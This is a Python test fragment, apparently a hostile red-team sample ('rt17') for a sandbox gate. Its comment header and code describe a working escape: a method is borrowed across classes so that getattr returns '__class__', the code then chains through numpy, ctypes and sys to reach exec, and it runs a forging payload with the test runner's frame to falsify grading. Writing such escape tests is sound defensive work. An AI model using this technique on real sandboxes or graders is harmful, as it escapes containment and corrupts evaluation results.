# ruff: noqa: F821  (a part: the test puts the stub and `_FORGE = "..."` before it)
# rt17 (hostile, escape): `_A.read(self)` runs `_A`'s method on `_B`'s object. The gate admits it because `_B`'s
# objects have no native attribute `_A`'s do not (classes.compatible), and then checks `_A.read` under `_A`'s
# rules: `getattr(self, self.key)` is a name table, since `_A`'s family binds `key` only to "weight". But `self` is
# `_B`'s object there, whose `key` `_B` bound to "__class__": the call hands back the guarded class `_B` as a plain
# value, through which `_B`'s methods (named like `ATTRIBUTES` entries) run on any object -- numpy -> ctypes -> sys
# -> a frame, and the forger of test_gate_grading.py runs with the runner's frame.
import numpy as np


class _A:
    def __init__(self):
        self.key = "weight"
        self.weight = None

    def read(self):
        return getattr(self, self.key)


class _B:
    def __init__(self):
        self.key = "_" + "_class__"
        self._ctypes = None
        self._sys = None
        self._getframe = None
        self.modules = None
        self.exec = None
        self.got = _A.read(self)  # hole: `_B`'s object, read with `_A`'s name table

    def values(self):
        return self.ctypes

    def keys(self):
        return self._ctypes

    def items(self):
        return self._sys

    def get(self):
        return self._getframe

    def pop(self):
        return self.modules

    def index(self):
        return self.exec


_C = _B().got
_sys = _C.items(_C.keys(_C.values(np.zeros(1))))
_C.index(_C.pop(_sys)["builtins"])(_FORGE, {"_frame": _C.get(_sys)()})
